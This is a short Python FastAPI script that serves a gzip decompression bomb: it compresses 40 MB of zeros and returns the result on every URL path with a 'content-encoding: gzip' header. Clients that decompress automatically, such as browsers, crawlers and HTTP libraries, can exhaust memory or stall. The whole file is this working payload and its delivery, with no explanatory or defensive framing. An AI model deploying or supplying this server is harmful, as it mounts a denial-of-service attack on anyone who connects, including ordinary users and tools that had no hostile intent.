import zlib

from fastapi import FastAPI, Response

packer = zlib.compressobj(9, zlib.DEFLATED, 31)
bomb = b"".join(packer.compress(bytes(1_000_000)) for _ in range(40)) + packer.flush()
app = FastAPI()


@app.get("/{path:path}")
def read(path: str):
    return Response(bomb, headers={"content-encoding": "gzip"})
